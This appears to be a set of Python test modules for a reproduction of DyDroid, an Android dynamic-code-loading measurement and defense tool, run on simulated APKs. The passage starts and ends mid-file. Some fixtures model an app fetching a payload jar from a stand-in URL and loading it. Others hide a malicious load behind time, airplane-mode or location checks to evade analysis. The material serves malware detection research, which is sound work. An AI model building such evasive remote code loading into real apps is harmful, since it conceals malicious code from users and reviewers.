        dead_native.call_void(
            "java.lang.System", "loadLibrary", dead_native.new_string("legacy")
        )
        dead_native.ret_void()
        activity.add_method(dead_native.build())

    dex = DexFile(classes=[activity])
    return Apk.build(build_manifest(package), dex_files=[dex])


class TestDebloat:
    def _methods_by_name(self, apk):
        from repro.static_analysis.decompiler import Decompiler

        program = Decompiler(strict=True).decompile(apk)
        return {
            m.name: m
            for dex in program.dex_files
            for cls in dex.classes
            for m in cls.methods
        }

    def test_shelves_unreachable_sites_and_keeps_reachable_ones(self):
        from repro.defense.debloat import _loader_mechanism

        apk = _loader_app()
        rewritten, manifest = debloat_apk(apk)
        assert rewritten is not apk
        assert manifest.rewritten
        assert manifest.reachable_loader_sites == 1
        assert {(s.method_name, s.mechanism) for s in manifest.shelved} == {
            ("legacyPluginPath", "dex"),
            ("legacyNativeInit", "native"),
        }

        methods = self._methods_by_name(rewritten)
        # The guard stub holds the original name and has no DCL surface...
        assert _loader_mechanism(methods["legacyPluginPath"]) == ""
        # ...the original body survives under the $shelved name...
        assert _loader_mechanism(methods["legacyPluginPath" + SHELVED_SUFFIX]) == "dex"
        assert _loader_mechanism(methods["legacyNativeInit" + SHELVED_SUFFIX]) == "native"
        # ...and the reachable site is untouched.
        assert _loader_mechanism(methods["onCreate"]) == "dex"

    def test_untouched_when_all_sites_reachable(self):
        apk = _loader_app(dead_sites=False)
        rewritten, manifest = debloat_apk(apk)
        assert rewritten is apk
        assert not manifest.rewritten
        assert manifest.reachable_loader_sites == 1

    def test_second_pass_is_a_no_op(self):
        once, _ = debloat_apk(_loader_app())
        twice, manifest = debloat_apk(once)
        assert twice is once
        assert not manifest.rewritten

    def test_integrity_protected_apk_refused(self):
        from repro.static_analysis.rewriter import RepackagingError

        apk = _loader_app()
        apk.enable_anti_repackaging()
        with pytest.raises(RepackagingError):
            debloat_apk(apk)

    def test_debloat_corpus_skips_unrewritable_apps(self):
        from repro.corpus.generator import AppBlueprint, AppRecord
        from repro.corpus.metadata import AppMetadata

        def record(apk):
            return AppRecord(
                apk=apk,
                metadata=AppMetadata(
                    category="tools",
                    downloads=0,
                    n_ratings=0,
                    avg_rating=0.0,
                    release_time_ms=0,
                ),
                blueprint=AppBlueprint(index=0, package=apk.package, category="tools"),
            )

        protected = _loader_app("com.example.protected")
        protected.enable_anti_repackaging()
        results = debloat_corpus([record(_loader_app()), record(protected)])
        assert len(results) == 2
        (rewritten_record, manifest), (kept_record, empty) = results
        assert manifest.rewritten
        assert rewritten_record.apk is not None
        assert not empty.rewritten
        assert kept_record.apk is protected


class TestEvaluateDefense:
    def test_unknown_policy_and_farm_without_store_rejected(self):
        with pytest.raises(ValueError):
            evaluate_defense(4, policy="nope")
        with pytest.raises(ValueError):
            evaluate_defense(4, workers=2, verdict_store="")

    def test_hazard_kind_precedence(self):
        from repro.corpus.generator import AppBlueprint

        assert hazard_kind(AppBlueprint(index=0, package="a", category="c")) == ""
        assert (
            hazard_kind(
                AppBlueprint(index=0, package="a", category="c", vuln_kind="injection")
            )
            == "code-injection"
        )
        assert (
            hazard_kind(
                AppBlueprint(
                    index=0,
                    package="a",
                    category="c",
                    malware_family="chathook",
                    vuln_kind="injection",
                )
            )
            == "known-malware"
        )

    def test_small_corpus_blocks_hazards_without_benign_breakage(self, tmp_path):
        from repro.core.config import DyDroidConfig

        evaluation = evaluate_defense(
            24,
            seed=7,
            policy="default",
            verdict_store=str(tmp_path / "verdicts.sqlite"),
            quarantine_dir=str(tmp_path / "quarantine"),
            config=DyDroidConfig(train_samples_per_family=2, run_replays=False),
        )
        assert evaluation.exposed_hazards
        assert evaluation.blocked_hazard_rate == 1.0
        assert evaluation.broken_benign == []
        summary = evaluation.to_dict()
        assert summary["blocked_hazards"] == summary["exposed_hazards"]
        assert summary["benign_breakage_rate"] == 0.0
        rendered = evaluation.render()
        assert "DEFENSE EVALUATION: policy [default]" in rendered
        assert "All hazards" in rendered
        # The defended report carries the per-rule decision table.
        table = evaluation.defended_report.defense_table()
        assert table["loads_denied"] + table["loads_quarantined"] >= 1
