"""Unit tests for the virtual filesystem and its Android storage rules."""

import pytest

from repro.runtime.vfs import (
    AccessDeniedError,
    StorageFullError,
    VirtualFilesystem,
    apk_install_path,
    internal_dir,
    internal_owner,
    is_external,
    is_system,
    normalize,
)


class TestPathHelpers:
    def test_normalize(self):
        assert normalize("/a//b/../c") == "/a/c"
        assert normalize("relative/x") == "/relative/x"

    def test_internal_owner(self):
        assert internal_owner("/data/data/com.x.y/cache/f.jar") == "com.x.y"
        assert internal_owner("/mnt/sdcard/f.jar") is None
        assert internal_owner("/data/data") is None

    def test_area_predicates(self):
        assert is_external("/mnt/sdcard/dir/f")
        assert not is_external("/data/data/p/f")
        assert is_system("/system/lib/libc.so")

    def test_install_path(self):
        assert apk_install_path("com.a") == "/data/app/com.a-1.apk"
        assert internal_dir("com.a") == "/data/data/com.a"


class TestWriteRules:
    def setup_method(self):
        self.vfs = VirtualFilesystem()

    def test_own_internal_allowed(self):
        assert self.vfs.may_write("/data/data/com.a/files/x", "com.a")

    def test_foreign_internal_denied(self):
        assert not self.vfs.may_write("/data/data/com.b/files/x", "com.a")

    def test_foreign_internal_world_writable_file_allowed(self):
        self.vfs.write("/data/data/com.b/shared/x", b"d", owner="com.b", world_writable=True)
        assert self.vfs.may_write("/data/data/com.b/shared/x", "com.a")

    def test_external_pre_kitkat_is_free_for_all(self):
        assert self.vfs.may_write("/mnt/sdcard/x", "com.a", has_external_permission=False, api_level=18)

    def test_external_post_kitkat_needs_permission(self):
        assert not self.vfs.may_write("/mnt/sdcard/x", "com.a", has_external_permission=False, api_level=19)
        assert self.vfs.may_write("/mnt/sdcard/x", "com.a", has_external_permission=True, api_level=19)

    def test_system_is_read_only_for_apps(self):
        assert not self.vfs.may_write("/system/lib/evil.so", "com.a")
        assert self.vfs.may_write("/system/lib/libc.so", "system")

    def test_app_install_dir_protected(self):
        assert not self.vfs.may_write("/data/app/com.b-1.apk", "com.a")

    def test_write_denied_raises(self):
        with pytest.raises(AccessDeniedError):
            self.vfs.write("/data/data/com.b/x", b"d", owner="com.a")


class TestFileOperations:
    def setup_method(self):
        self.vfs = VirtualFilesystem()

    def test_write_read_roundtrip(self):
        self.vfs.write("/data/data/com.a/f", b"hello", owner="com.a")
        assert self.vfs.read("/data/data/com.a/f") == b"hello"
        assert self.vfs.exists("/data/data/com.a/f")

    def test_read_missing_raises(self):
        with pytest.raises(FileNotFoundError):
            self.vfs.read("/nope")

    def test_delete(self):
        self.vfs.write("/tmp/x", b"1")
        assert self.vfs.delete("/tmp/x")
        assert not self.vfs.delete("/tmp/x")

    def test_rename_preserves_metadata(self):
        self.vfs.write("/data/data/com.a/f", b"d", owner="com.a", world_writable=False)
        assert self.vfs.rename("/data/data/com.a/f", "/data/data/com.a/g")
        record = self.vfs.stat("/data/data/com.a/g")
        assert record.owner == "com.a"
        assert not self.vfs.exists("/data/data/com.a/f")

    def test_rename_missing_is_false(self):
        assert not self.vfs.rename("/a", "/b")

    def test_listdir(self):
        self.vfs.write("/d/one", b"1")
        self.vfs.write("/d/two", b"2")
        self.vfs.write("/other/x", b"3")
        assert self.vfs.listdir("/d") == ["/d/one", "/d/two"]

    def test_external_files_are_world_writable(self):
        record = self.vfs.write("/mnt/sdcard/x", b"1", owner="com.a", world_writable=False)
        assert record.world_writable  # FAT has no permissions

    def test_append(self):
        self.vfs.write("/tmp/log", b"a")
        self.vfs.append("/tmp/log", b"b")
        assert self.vfs.read("/tmp/log") == b"ab"

    def test_wipe_owner(self):
        self.vfs.write("/data/data/com.a/1", b"x", owner="com.a")
        self.vfs.write("/data/data/com.a/2", b"x", owner="com.a")
        self.vfs.write("/data/data/com.b/1", b"x", owner="com.b")
        assert self.vfs.wipe_owner("com.a") == 2
        assert self.vfs.exists("/data/data/com.b/1")


class TestQuota:
    def test_quota_enforced(self):
        vfs = VirtualFilesystem(quota_bytes=10)
        vfs.write("/a", b"12345")
        with pytest.raises(StorageFullError):
            vfs.write("/b", b"123456789")

    def test_overwrite_frees_old_size(self):
        vfs = VirtualFilesystem(quota_bytes=10)
        vfs.write("/a", b"1234567890")
        vfs.write("/a", b"abcde")  # replacing is fine
        assert vfs.used_bytes() == 5

    def test_used_bytes(self):
        vfs = VirtualFilesystem()
        vfs.write("/a", b"123")
        vfs.write("/b", b"4567")
        assert vfs.used_bytes() == 7
