"""End-to-end tests of the DyDroid pipeline and the measurement report."""

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.core.report import MeasurementReport
from repro.corpus.generator import CorpusGenerator, generate_corpus
from repro.dynamic.engine import DynamicOutcome
from repro.dynamic.provenance import Entity
from repro.static_analysis.malware import families


@pytest.fixture(scope="module")
def measured():
    """One measured 500-app corpus shared by the assertions below."""
    corpus = generate_corpus(500, seed=21)
    dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2))
    report = dydroid.measure(corpus)
    return corpus, report


class TestPipelineEndToEnd:
    def test_every_app_analyzed(self, measured):
        corpus, report = measured
        assert report.n_total == len(corpus)

    def test_table2_shape(self, measured):
        _, report = measured
        summary = report.dynamic_summary()
        for side in ("dex", "native"):
            row = summary[side]
            assert row["failure"] == (
                row["rewriting_failure"] + row["no_activity"] + row["crash"]
            )
            assert row["failure"] + row["exercised"] == row["candidates"]
            assert row["failure"] / row["candidates"] < 0.06
            assert row["intercepted"] <= row["exercised"]
        # interception rates echo the paper: ~41% (dex), ~54% (native).
        assert 0.30 <= summary["dex"]["intercepted"] / summary["dex"]["candidates"] <= 0.55
        assert 0.40 <= summary["native"]["intercepted"] / summary["native"]["candidates"] <= 0.70

    def test_table3_dcl_apps_more_popular(self, measured):
        _, report = measured
        table = report.popularity()
        assert table["DEX"]["downloads"] > table["Without DEX"]["downloads"]
        assert table["Native"]["downloads"] > table["Without Native"]["downloads"]
        assert table["Native"]["n_ratings"] > table["Without Native"]["n_ratings"]

    def test_table4_third_party_dominates(self, measured):
        _, report = measured
        table = report.entity_table()
        assert table["dex"]["third"] / table["dex"]["apps"] > 0.9
        assert table["native"]["third"] / table["native"]["apps"] > 0.7
        assert table["native"]["own"] / table["native"]["apps"] > 0.05

    def test_table5_remote_is_baidu_only(self, measured):
        corpus, report = measured
        rows = report.remote_fetch_apps()
        planted = {r.package for r in corpus if r.blueprint.is_baidu_remote}
        assert {package for package, _ in rows} == planted
        for _, urls in rows:
            assert all(url.startswith("http://mobads.baidu.com/") for url in urls)

    def test_table6_rates(self, measured):
        _, report = measured
        counts = report.obfuscation_table()
        n = report.n_total
        assert 0.82 <= counts["Lexical"] / n <= 0.96
        assert 0.45 <= counts["Reflection"] / n <= 0.60
        assert counts["DEX encryption"] >= 1
        assert counts["Anti-decompilation"] >= 1
        # native (dynamically confirmed) sits near the paper's 23.4%.
        assert 0.12 <= counts["Native"] / n <= 0.33

    def test_fig3_packed_categories(self, measured):
        _, report = measured
        from repro.corpus.profiles import FIG3_CATEGORY_WEIGHTS

        for category in report.dex_encryption_by_category():
            assert category in FIG3_CATEGORY_WEIGHTS

    def test_table7_families_found(self, measured):
        corpus, report = measured
        table = report.malware_table()
        planted = {
            r.blueprint.malware_family for r in corpus if r.blueprint.malware_family
        }
        assert set(table) == planted
        for family, row in table.items():
            assert row["n_apps"] >= 1
            assert row["n_files"] >= row["n_apps"]

    def test_malware_not_flagged_on_benign_apps(self, measured):
        corpus, report = measured
        planted = {
            r.package for r in corpus if r.blueprint.malware_family is not None
        }
        flagged = {a.package for a in report.apps if a.malicious_payloads()}
        assert flagged == planted  # zero false positives, zero misses

    def test_table8_replays_present(self, measured):
        _, report = measured
        table = report.runtime_config_table()
        assert set(table) == {
            "system-time-before-release",
            "airplane-wifi-on",
            "airplane-wifi-off",
            "location-off",
        }
        total = report.malicious_file_count()
        for bucket in table.values():
            assert bucket["total"] == total
            assert 0 <= bucket["loaded"] <= total

    def test_table8_wifi_on_loads_at_least_wifi_off(self, measured):
        _, report = measured
        table = report.runtime_config_table()
        assert table["airplane-wifi-on"]["loaded"] >= table["airplane-wifi-off"]["loaded"]

    def test_table9_vulnerabilities(self, measured):
        corpus, report = measured
        table = report.vulnerability_table()
        kinds = set(table)
        assert ("dex", "external-storage") in kinds
        assert ("native", "other-app-internal-storage") in kinds
        planted = {r.package for r in corpus if r.blueprint.vuln_kind}
        found = {pkg for rows in table.values() for pkg, _ in rows}
        assert found == planted

    def test_table10_settings_dominates(self, measured):
        _, report = measured
        table = report.privacy_table()
        assert "Settings" in table
        n_intercepted = sum(1 for a in report.apps if a.dex_intercepted)
        assert table["Settings"]["n_apps"] / n_intercepted > 0.9
        for row in table.values():
            assert row["exclusively_third"] <= row["n_apps"]

    def test_table10_mostly_third_party(self, measured):
        _, report = measured
        table = report.privacy_table()
        exclusive = sum(row["exclusively_third"] for row in table.values())
        total = sum(row["n_apps"] for row in table.values())
        assert exclusive / total > 0.9

    def test_render_all_contains_every_table(self, measured):
        _, report = measured
        text = report.render_all()
        for marker in (
            "TABLE II", "TABLE III", "TABLE IV", "TABLE V", "TABLE VI",
            "FIGURE 3", "TABLE VII", "TABLE VIII", "TABLE IX", "TABLE X",
        ):
            assert marker in text


class TestPipelineUnits:
    def test_anti_decompilation_app_short_circuits(self):
        generator = CorpusGenerator(seed=5)
        blueprints = generator.sample_blueprints(600)
        target = next(b for b in blueprints if b.anti_decompilation)
        record = generator.build_record(target)
        analysis = DyDroid(DyDroidConfig(run_malware=False)).analyze_app(record)
        assert analysis.decompile_failed
        assert analysis.obfuscation.anti_decompilation
        assert analysis.dynamic is None

    def test_non_dcl_app_skips_dynamic(self):
        generator = CorpusGenerator(seed=5)
        blueprints = generator.sample_blueprints(600)
        target = next(
            b for b in blueprints
            if not b.has_dex_dcl_code and not b.has_native_code and not b.anti_decompilation
        )
        record = generator.build_record(target)
        analysis = DyDroid(DyDroidConfig(run_malware=False)).analyze_app(record)
        assert analysis.dynamic is None
        assert not analysis.has_dex_dcl_code

    def test_packed_app_pipeline(self):
        generator = CorpusGenerator(seed=5)
        blueprints = generator.sample_blueprints(600)
        target = next(b for b in blueprints if b.is_packed)
        record = generator.build_record(target)
        analysis = DyDroid(DyDroidConfig(run_malware=False, run_privacy=False)).analyze_app(record)
        assert analysis.obfuscation.dex_encryption
        assert analysis.outcome is DynamicOutcome.EXERCISED
        # the decrypted payload was intercepted when the container loaded it.
        assert analysis.dynamic.intercepted_any
        assert "real app running" in " ".join(analysis.dynamic.logcat)

    def test_replays_disabled(self):
        corpus = generate_corpus(400, seed=33)
        target = next(r for r in corpus if r.blueprint.malware_family)
        dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2, run_replays=False))
        analysis = dydroid.analyze_app(target)
        assert analysis.malicious_payloads()
        assert analysis.replay_loaded == {}

    def test_detection_cache_hits(self):
        corpus = generate_corpus(400, seed=33)
        dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2))
        target = next(r for r in corpus if r.blueprint.uses_google_ads)
        dydroid.analyze_app(target)
        assert dydroid._detection_cache  # payload verdicts were cached


class TestTypeAnnotations:
    def test_replay_annotations_resolve(self):
        # Regression: `_replay` is annotated `Dict[str, Set[str]]`; with
        # `from __future__ import annotations` a missing `Dict` import only
        # explodes when the hints are actually evaluated.
        import typing

        hints = typing.get_type_hints(DyDroid._replay)
        assert hints["return"] == typing.Dict[str, typing.Set[str]]


class TestLruCacheBehaviour:
    def test_eviction_order_is_least_recently_used(self):
        from repro.core.pipeline import LruCache

        cache = LruCache(capacity=3)
        cache["a"], cache["b"], cache["c"] = 1, 2, 3
        cache["a"]  # touch via __getitem__: order is now b, c, a
        cache["d"] = 4  # evicts b
        cache["e"] = 5  # evicts c
        assert "b" not in cache and "c" not in cache
        assert "a" in cache and "d" in cache and "e" in cache

    def test_contains_moves_to_end(self):
        from repro.core.pipeline import LruCache

        cache = LruCache(capacity=2)
        cache["a"], cache["b"] = 1, 2
        assert "a" in cache  # membership probe refreshes recency
        cache["c"] = 3
        assert "b" not in cache
        assert "a" in cache

    def test_contains_miss_does_not_insert(self):
        from repro.core.pipeline import LruCache

        cache = LruCache(capacity=2)
        assert "ghost" not in cache
        assert len(cache) == 0

    def test_reinserting_existing_key_updates_value_and_recency(self):
        from repro.core.pipeline import LruCache

        cache = LruCache(capacity=2)
        cache["a"], cache["b"] = 1, 2
        cache["a"] = 10
        cache["c"] = 3  # evicts b, not the freshly-updated a
        assert cache["a"] == 10
        assert "b" not in cache

    def test_cache_hit_miss_counters_on_reanalysis(self):
        from repro.observe import MetricsRegistry

        corpus = generate_corpus(400, seed=33)
        target = next(r for r in corpus if r.blueprint.uses_google_ads)
        registry = MetricsRegistry()
        dydroid = DyDroid(
            DyDroidConfig(train_samples_per_family=2, run_replays=False),
            metrics=registry,
        )
        dydroid.analyze_app(target)
        lookups = registry.counter_value("cache.detection.lookups")
        misses = registry.counter_value("cache.detection.miss")
        assert lookups >= 1 and misses >= 1
        # Same app again: every digest is now cached.
        dydroid.analyze_app(target)
        assert registry.counter_value("cache.detection.lookups") == 2 * lookups
        assert registry.counter_value("cache.detection.miss") == misses
        assert registry.counter_value("cache.detection.hit") == lookups
