"""Tests for Monkey, DCL logger, interceptor, download tracker, provenance,
and the App Execution Engine (including Table VIII environment replays)."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.corpus.behaviors import EnvGates, emit_asset_to_file, emit_dex_load, emit_env_gates
from repro.dynamic.dcl_logger import DclLogger
from repro.dynamic.download_tracker import DownloadTracker
from repro.dynamic.engine import AppExecutionEngine, DynamicOutcome, EngineOptions
from repro.dynamic.interceptor import CodeInterceptor, PayloadKind, classify_payload
from repro.dynamic.monkey import Monkey, MonkeyEvent, discover_handlers
from repro.dynamic.provenance import Entity, Provenance, entity_of, provenance_of
from repro.runtime.device import (
    BASELINE_CONFIG,
    TABLE_VIII_CONFIGS,
    Device,
    EnvironmentConfig,
)
from repro.runtime.instrumentation import DexLoadEvent, Instrumentation
from repro.runtime.objects import VMObject
from repro.runtime.stacktrace import StackTraceElement
from repro.runtime.vm import DalvikVM

from tests.helpers import (
    build_manifest,
    downloads_and_loads_app,
    local_loader_app,
    simple_payload_dex,
)

PAYLOAD_URL = "http://cdn.sdk-demo.com/payload.jar"


class TestMonkey:
    def test_plan_starts_with_lifecycle(self):
        plan = Monkey(seed=1, event_budget=5).plan(["a.A"], {"a.A": ["onClick"]})
        assert [e.callback for e in plan[:3]] == ["onCreate", "onStart", "onResume"]
        assert all(e.callback == "onClick" for e in plan[3:])
        assert len(plan) == 8

    def test_plan_deterministic_per_seed(self):
        handlers = {"a.A": ["onClick", "onScroll", "onLongPress"]}
        plan_a = Monkey(seed=7, event_budget=10).plan(["a.A"], handlers)
        plan_b = Monkey(seed=7, event_budget=10).plan(["a.A"], handlers)
        assert plan_a == plan_b

    def test_plans_differ_across_seeds(self):
        handlers = {"a.A": ["onClick", "onScroll", "onLongPress"]}
        plan_a = Monkey(seed=1, event_budget=20).plan(["a.A"], handlers)
        plan_b = Monkey(seed=2, event_budget=20).plan(["a.A"], handlers)
        assert plan_a != plan_b

    def test_no_handlers_just_lifecycle(self):
        plan = Monkey(seed=0, event_budget=10).plan(["a.A"], {})
        assert len(plan) == 3

    def test_discover_handlers(self):
        cls = class_builder("a.A", superclass="android.app.Activity")
        for name in ("onCreate", "onClick", "onPause", "helper", "onSwipe"):
            b = MethodBuilder(name, "a.A", arity=1)
            b.ret_void()
            cls.add_method(b.build())
        assert discover_handlers(cls) == ["onClick", "onSwipe"]


class TestPayloadClassification:
    def test_kinds(self):
        dex = simple_payload_dex()
        assert classify_payload(dex.to_bytes()) is PayloadKind.DEX
        assert classify_payload(dex.to_odex()) is PayloadKind.DEX
        assert classify_payload(dex.encrypt(b"k")) is PayloadKind.ENCRYPTED
        assert classify_payload(b"\x7fELF\x02\x01\x01\x00x") is PayloadKind.NATIVE
        assert classify_payload(b"random") is PayloadKind.UNKNOWN


def _run_app(apk, payload_bytes=None, options=None):
    engine = AppExecutionEngine(options or EngineOptions(
        remote_resources={PAYLOAD_URL: payload_bytes} if payload_bytes else {}
    ))
    return engine.run(apk)


class TestEngine:
    def test_exercised_with_interception(self):
        report = _run_app(downloads_and_loads_app(), simple_payload_dex().to_bytes())
        assert report.outcome is DynamicOutcome.EXERCISED
        assert report.intercepted_any
        payload = report.intercepted[0]
        assert payload.kind is PayloadKind.DEX
        assert payload.call_site == "com.example.demo.MainActivity"
        assert "payload: loaded-code-ran" in report.logcat

    def test_temp_file_still_intercepted(self):
        report = _run_app(
            downloads_and_loads_app(delete_after=True), simple_payload_dex().to_bytes()
        )
        assert report.intercepted_any

    def test_blocking_disabled_payload_survives_because_dumped_at_load(self):
        # Even without delete-blocking the interceptor dumped at event time;
        # what is lost is only the on-device copy.
        options = EngineOptions(
            block_file_ops=False,
            remote_resources={PAYLOAD_URL: simple_payload_dex().to_bytes()},
        )
        report = _run_app(downloads_and_loads_app(delete_after=True), options=options)
        assert report.intercepted_any

    def test_no_activity(self):
        manifest = build_manifest(activities=())
        apk = Apk.build(manifest, dex_files=[simple_payload_dex()])
        report = _run_app(apk)
        assert report.outcome is DynamicOutcome.NO_ACTIVITY

    def test_rewriting_failure(self):
        apk = downloads_and_loads_app()
        manifest = apk.manifest
        manifest.permissions.clear()
        apk.put_manifest(manifest)
        apk.enable_anti_repackaging()
        report = _run_app(apk)
        assert report.outcome is DynamicOutcome.REWRITING_FAILURE

    def test_crash(self):
        activity = "com.crash.app.MainActivity"
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        b.throw_new("java.lang.IllegalStateException")
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest("com.crash.app"), dex_files=[DexFile(classes=[cls])])
        report = _run_app(apk)
        assert report.outcome is DynamicOutcome.CRASH
        assert "IllegalStateException" in report.crash_reason

    def test_looping_handler_is_not_a_crash(self):
        activity = "com.loop.app.MainActivity"
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        b.label("again")
        b.goto("again")
        cls.add_method(b.build())
        apk = Apk.build(build_manifest("com.loop.app"), dex_files=[DexFile(classes=[cls])])
        report = _run_app(apk, options=EngineOptions(instruction_budget=2_000))
        assert report.outcome is DynamicOutcome.EXERCISED

    def test_companions_installed(self):
        companion = Apk.build(build_manifest("com.adobe.air", activities=()))
        apk, payload = local_loader_app()
        options = EngineOptions(companions=(companion,))
        report = AppExecutionEngine(options).run(apk)
        assert report.outcome is DynamicOutcome.EXERCISED

    def test_application_container_runs_first(self):
        # Packed-app style: container defines classes the activity needs.
        package = "com.packed.app"
        container_name = "com.vendor.guard.Stub"
        activity_name = "{}.MainActivity".format(package)

        container = class_builder(container_name, superclass="android.app.Application")
        boot = MethodBuilder("onCreate", container_name, arity=1)
        boot.call_void("android.util.Log", "d", boot.new_string("boot"), boot.new_string("container"))
        boot.ret_void()
        container.add_method(boot.build())

        activity = class_builder(activity_name, superclass="android.app.Activity")
        oc = MethodBuilder("onCreate", activity_name, arity=1)
        oc.call_void("android.util.Log", "d", oc.new_string("boot"), oc.new_string("activity"))
        oc.ret_void()
        activity.add_method(oc.build())

        manifest = build_manifest(package, application_name=container_name)
        apk = Apk.build(manifest, dex_files=[DexFile(classes=[container, activity])])
        report = _run_app(apk)
        assert report.logcat[0] == "boot: container"
        assert "boot: activity" in report.logcat


class TestEnvironmentReplay:
    def _gated_app(self, gates, release_ms=1_000_000_000_000):
        package = "com.gated.app"
        activity_name = "{}.MainActivity".format(package)
        payload = simple_payload_dex("com.mal.Entry")
        cls = class_builder(activity_name, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity_name, arity=1)
        emit_env_gates(b, gates, release_ms, "hide")
        emit_asset_to_file(b, "mal.bin", "/data/data/{}/files/mal.jar".format(package))
        emit_dex_load(
            b, "/data/data/{}/files/mal.jar".format(package),
            "/data/data/{}/cache/odex".format(package),
        )
        b.label("hide")
        b.ret_void()
        cls.add_method(b.build())
        return Apk.build(
            build_manifest(package),
            dex_files=[DexFile(classes=[cls])],
            assets={"assets/mal.bin": payload.to_bytes()},
        )

    def test_time_gate(self):
        apk = self._gated_app(EnvGates(system_time=True))
        engine = AppExecutionEngine(EngineOptions(release_time_ms=1_000_000_000_000))
        results = engine.replay_under_configs(apk, (BASELINE_CONFIG,) + TABLE_VIII_CONFIGS)
        assert results["baseline"].intercepted_any
        assert not results["system-time-before-release"].intercepted_any
        assert results["location-off"].intercepted_any

    def test_airplane_flag_gate(self):
        apk = self._gated_app(EnvGates(airplane_flag=True))
        engine = AppExecutionEngine(EngineOptions(release_time_ms=1_000_000_000_000))
        results = engine.replay_under_configs(apk, (BASELINE_CONFIG,) + TABLE_VIII_CONFIGS)
        assert results["baseline"].intercepted_any
        # the airplane *setting* hides the load even with WiFi re-enabled.
        assert not results["airplane-wifi-on"].intercepted_any
        assert not results["airplane-wifi-off"].intercepted_any

    def test_connectivity_gate(self):
        apk = self._gated_app(EnvGates(connectivity=True))
        engine = AppExecutionEngine(EngineOptions(release_time_ms=1_000_000_000_000))
        results = engine.replay_under_configs(apk, (BASELINE_CONFIG,) + TABLE_VIII_CONFIGS)
        assert results["baseline"].intercepted_any
        assert results["airplane-wifi-on"].intercepted_any     # WiFi counts
        assert not results["airplane-wifi-off"].intercepted_any

    def test_location_gate(self):
        apk = self._gated_app(EnvGates(location=True))
        engine = AppExecutionEngine(EngineOptions(release_time_ms=1_000_000_000_000))
        results = engine.replay_under_configs(apk, (BASELINE_CONFIG,) + TABLE_VIII_CONFIGS)
        assert results["baseline"].intercepted_any
        assert not results["location-off"].intercepted_any
        assert results["airplane-wifi-on"].intercepted_any


class TestDownloadTrackerAndProvenance:
    def test_remote_provenance(self):
        report = _run_app(downloads_and_loads_app(), simple_payload_dex().to_bytes())
        path = report.intercepted[0].path
        assert report.tracker.is_remote(path)
        assert provenance_of(path, report.tracker) is Provenance.REMOTE
        assert report.tracker.remote_sources(path) == [PAYLOAD_URL]

    def test_local_provenance(self):
        apk, _ = local_loader_app()
        report = _run_app(apk)
        path = report.intercepted[0].path
        assert not report.tracker.is_remote(path)
        assert provenance_of(path, report.tracker) is Provenance.LOCAL

    def test_flow_path_witness(self):
        report = _run_app(downloads_and_loads_app(), simple_payload_dex().to_bytes())
        path = report.intercepted[0].path
        chain = report.tracker.flow_path(PAYLOAD_URL, path)
        assert chain[0] == "URL" and chain[-1] == "File"
        assert "InputStream" in chain and "Buffer" in chain and "OutputStream" in chain

    def test_rename_extends_flow(self):
        tracker = DownloadTracker()
        instrumentation = Instrumentation(block_file_ops=False)
        tracker.attach(instrumentation)
        from repro.runtime.instrumentation import FlowNode

        url = FlowNode(key="URL@1", kind="URL", detail="http://x/a")
        file_a = FlowNode(key="file:/a", kind="File", detail="/a")
        file_b = FlowNode(key="file:/b", kind="File", detail="/b")
        instrumentation.emit_flow(url, file_a, "URL->InputStream")
        instrumentation.emit_flow(file_a, file_b, "File->File")
        assert tracker.is_remote("/b")

    def test_downloaded_files(self):
        report = _run_app(downloads_and_loads_app(), simple_payload_dex().to_bytes())
        assert "/data/data/com.example.demo/cache/payload.jar" in report.tracker.downloaded_files()

    def test_reachability_is_one_pass_per_payload(self):
        """Provenance is O(M) passes for M payloads, not O(N URLs * M).

        ``is_remote`` used to walk per-URL and ``remote_sources`` repeated
        the work; now one memoized reverse-reachability pass serves both.
        """
        tracker = DownloadTracker()
        instrumentation = Instrumentation(block_file_ops=False)
        tracker.attach(instrumentation)
        from repro.runtime.instrumentation import FlowNode

        n_urls, n_files = 10, 6
        for u in range(n_urls):
            url = FlowNode(
                key="URL@{}".format(u), kind="URL", detail="http://x/{}".format(u)
            )
            for f in range(n_files):
                file_node = FlowNode(
                    key="file:/f{}".format(f), kind="File", detail="/f{}".format(f)
                )
                instrumentation.emit_flow(url, file_node, "URL->InputStream")

        tracker.reachability_passes = 0
        for f in range(n_files):
            path = "/f{}".format(f)
            assert tracker.is_remote(path)
            assert len(tracker.remote_sources(path)) == n_urls
        assert tracker.reachability_passes == n_files

        # new evidence invalidates the memo; a re-query pays exactly one pass
        extra = FlowNode(key="URL@x", kind="URL", detail="http://x/extra")
        instrumentation.emit_flow(extra, FlowNode(
            key="file:/f0", kind="File", detail="/f0"
        ), "URL->InputStream")
        assert len(tracker.remote_sources("/f0")) == n_urls + 1
        assert tracker.reachability_passes == n_files + 1


class TestEntityAttribution:
    def _event(self, call_site, package="com.example.demo"):
        return DexLoadEvent(
            dex_paths=("/x.jar",),
            odex_dir=None,
            loader_kind="DexClassLoader",
            call_site=call_site,
            stack=(StackTraceElement(call_site or "x.Y", "m"),),
            app_package=package,
            timestamp_ms=0,
        )

    def test_own(self):
        assert entity_of(self._event("com.example.demo.ui.Loader")) is Entity.OWN

    def test_third_party(self):
        assert entity_of(self._event("com.google.ads.AdView")) is Entity.THIRD_PARTY

    def test_prefix_is_not_substring_match(self):
        # com.example.demo2 is NOT inside com.example.demo.
        assert entity_of(self._event("com.example.demo2.Loader")) is Entity.THIRD_PARTY

    def test_unknown_without_call_site(self):
        assert entity_of(self._event(None)) is Entity.UNKNOWN
