"""Round-trip tests for the report serialization layer (farm substrate)."""

import json

import pytest

from repro.cli import main
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.core.report import (
    SERIALIZATION_VERSION,
    AppAnalysis,
    DynamicDigest,
    MeasurementReport,
    PayloadVerdict,
)
from repro.corpus.generator import generate_corpus
from repro.dynamic.engine import DynamicOutcome


@pytest.fixture(scope="module")
def measured():
    corpus = generate_corpus(60, seed=15)
    config = DyDroidConfig(train_samples_per_family=2)
